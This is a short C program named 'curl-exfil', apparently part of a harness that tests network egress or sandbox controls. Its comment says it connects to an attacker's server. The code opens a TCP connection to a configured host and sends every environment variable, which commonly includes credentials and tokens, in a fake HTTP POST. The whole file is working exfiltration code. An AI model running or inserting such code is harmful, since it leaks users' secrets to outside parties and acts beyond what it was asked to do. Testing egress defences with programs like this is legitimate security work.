/* curl-exfil: connect to the attacker's server and send the environment. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "net.h"
#include "targets.h"

extern char **environ;

int main(int argc, char **argv)
{
	int fd;

	targets_load(argc, argv);
	fd = connect_tcp(target("T_TCP_HOST"), target("T_TCP_PORT"));
	if (fd < 0)
		return 1;
	dprintf(fd, "POST /upload HTTP/1.0\r\n\r\n");
	for (char **e = environ; *e; e++)
		dprintf(fd, "%s\n", *e);
	close(fd);
	return 0;
}
